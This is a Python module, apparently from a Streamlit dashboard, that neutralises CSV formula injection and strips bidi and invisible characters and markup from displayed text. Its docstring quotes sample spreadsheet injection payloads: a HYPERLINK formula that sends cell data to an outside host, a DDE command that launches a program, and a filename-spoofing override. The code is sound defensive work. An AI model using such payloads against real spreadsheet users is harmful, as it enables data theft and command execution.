"""Safe output: CSV downloads a spreadsheet opens as data, and text that renders as text.

A reader's own upload (and, in principle, any source) can hold a cell such as
`=HYPERLINK("http://x?"&A1)` or `@SUM(1+1)*cmd|' /C calc'!A0`: opened in Excel or
LibreOffice, it would run. `to_safe_csv` prefixes such text cells with `'` (OWASP's advice
for CSV injection), so the spreadsheet shows them as text.

Only text cells are touched: a float column stays numeric (-2.5 stays -2.5), and a text cell
that is a plain number ("-2.5", "+3", "1e-3") is left alone too, since a spreadsheet reads it as
that number and nothing else. Everything else that starts with `=`, `+`, `-`, `@`, a tab, a
carriage return or a line feed (or their full-width forms, which some spreadsheets accept) gets
the `'`. Column names are treated the same way.

Text shown to a reader (`safe_text`, `plot_text`, `format_free_frame` for tables) first loses its invisible
characters (`strip_format_chars`): bidi embeddings, overrides, isolates and marks, zero-width characters and the
other Unicode format characters, and control characters. A crafted value such as "\u202egnp.exe" would otherwise
display reversed ("exe.png"), and a zero-width character hides a difference between two values that look the same.

The bytes are UTF-8 with a BOM and CRLF line ends: without it Excel reads UTF-8 as the local code page and
Vietnamese turns to mojibake; with it Excel, LibreOffice, pandas and `vnintegration` (which
strips it) all read the file right. The trade-off: a quote that starts with `-` downloads as
`'-...`; the download is for reading and spreadsheets, and the data directory is the record.
"""

from __future__ import annotations

import html
import re

import pandas as pd

BOM = "\ufeff"
FORMULA_START = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"  # full-width = + - @ too
_FORMULA = re.compile("[" + re.escape(FORMULA_START) + "]")
_PLAIN_NUMBER = r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?"
_AUTOLINK = re.compile(r"(?i)\b(https?|ftps?|www)(?=[:.])|(?=@)")
_MARKDOWN_SPECIAL = re.compile(r"([!\"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~])")
# Every Unicode format character (category Cf: soft hyphen, Arabic number signs, bidi marks, embeddings,
# overrides and isolates, zero-width space/joiners, word joiner, invisible operators, BOM, interlinear annotation,
# tag characters ...) and every control character (Cc) but tab, line feed and carriage return. Written out so that
# a whole column is cleaned by one vectorised regex; tests/test_injection.py checks it against `unicodedata`.
_FORMAT_CHARS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f"
    "\u00ad\u0600-\u0605\u061c\u06dd\u070f\u0890\u0891\u08e2\u180e\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb"
    "\U000110bd\U000110cd\U00013430-\U0001343f\U0001bca0-\U0001bca3\U0001d173-\U0001d17a"
    "\U000e0001\U000e0020-\U000e007f]")


def to_safe_csv(frame: pd.DataFrame) -> bytes:
    """The frame as UTF-8-with-BOM CSV bytes (no index), with formula-like text cells neutralised."""
    safe = pd.DataFrame({i: neutralise(frame.iloc[:, i]) for i in range(frame.shape[1])}, index=frame.index)
    safe.columns = [neutralise_cell(str(name)) for name in frame.columns]
    # CRLF (RFC 4180), and not only for Excel: Python's csv writer quotes a field holding a line
    # break only when the break is part of the line terminator, so with "\n" a lone "\r" in a
    # cell would go out unquoted and split the row for every reader.
    return (BOM + safe.to_csv(index=False, lineterminator="\r\n")).encode("utf-8")


def to_safe_rows(rows: list[dict], columns) -> str:
    """Rows as CSV lines to append to a data file: no header, no BOM, LF line ends, the columns in order,
    formula-like text cells neutralised as in `to_safe_csv`."""
    frame = pd.DataFrame([{c: "" if r.get(c) is None else str(r.get(c)) for c in columns} for r in rows],
                         columns=list(columns), dtype=object)
    safe = pd.DataFrame({c: neutralise(frame[c]) for c in frame.columns}, columns=list(columns))
    return safe.to_csv(index=False, header=False, lineterminator="\n") if len(safe) else ""


def neutralise(column: pd.Series) -> pd.Series:
    """A column with every formula-like text cell prefixed by `'`; numbers and other types unchanged."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        column = column.astype(object)
    if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
        return column
    try:
        text = column.str  # NaN for the cells that are not strings
    except AttributeError:  # an object column holding no strings at all
        return column
    risky = text.match(_FORMULA.pattern, na=False) & ~text.fullmatch(_PLAIN_NUMBER, na=False)
    risky = risky.astype(bool)
    if not risky.any():
        return column
    out = column.copy()
    out[risky] = "'" + column[risky].astype(str)
    return out


def neutralise_cell(text: str) -> str:
    """One cell's text as `neutralise` writes it."""
    if text[:1] and _FORMULA.match(text) and not re.fullmatch(_PLAIN_NUMBER, text):
        return "'" + text
    return text


def strip_format_chars(text: str) -> str:
    """TEXT without format characters (bidi controls and marks, zero-width characters ...) and control characters
    other than tab and line breaks: the one cleaning of every URL or data text a reader sees.

    Removed, not neutralised (an isolate around the value, or a visible placeholder): an override inside an isolate
    still reverses what follows it, and the dashboard's text is Vietnamese and English, where these characters
    carry nothing a reader needs; removing them shows the characters in the order they are stored, and leaves
    every letter, tone mark (combining marks are not format characters) and emoji's variation selector intact.
    """
    text = str(text)
    return _FORMAT_CHARS.sub("", text) if not text.isprintable() else text


def format_free_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """FRAME for a table a reader sees (st.dataframe): `strip_format_chars` on every text cell and column name;
    numbers, dates and other types unchanged. The same frame comes back when nothing needed cleaning."""
    cleaned = {}
    for i in range(frame.shape[1]):
        column = frame.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype):
            text = column.map(lambda v: v if not isinstance(v, str) else strip_format_chars(v), na_action="ignore")
            if not text.equals(column):
                cleaned[i] = text
    names = [strip_format_chars(n) if isinstance(n, str) else n for n in frame.columns]
    if not cleaned and names == list(frame.columns):
        return frame
    out = frame.copy()
    for i, column in cleaned.items():
        out.isetitem(i, column)
    out.columns = names
    return out


def safe_text(text: str) -> str:
    """Text that `st.markdown`, `st.caption` and `st.write` show exactly as written.

    Every ASCII punctuation mark is backslash-escaped (CommonMark allows escaping any of them),
    so `<script>`, `[link](javascript:...)`, `**`, `#`, `$...$` (Streamlit's LaTeX) and
    `:red[...]` are shown as characters, never as markup. Where a widget already shows plain
    text (`st.text`, `st.code`) pass the text through `strip_format_chars` only; a table through
    `format_free_frame`. Format characters go first (`strip_format_chars`).

    Streamlit also turns a web or mail address in plain text into a link, escaped or not: a word joiner
    (U+2060, invisible) goes between `http`, `https`, `ftp` or `www` and the `:` or `.` after it, and before
    every `@`, so that no address in the text becomes a link.
    """
    text = _AUTOLINK.sub(lambda m: (m.group(1) or "") + "\u2060", strip_format_chars(text))
    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)


def plot_text(text: str) -> str:
    """Text that a plotly title, legend, label or hover shows exactly as written: plotly reads a subset of HTML
    (`<a href>`, `<b>`, `<span style>`), so `&`, `<` and `>` become entities (plotly shows them as characters);
    format characters go first (`strip_format_chars`)."""
    return html.escape(strip_format_chars(text), quote=False)
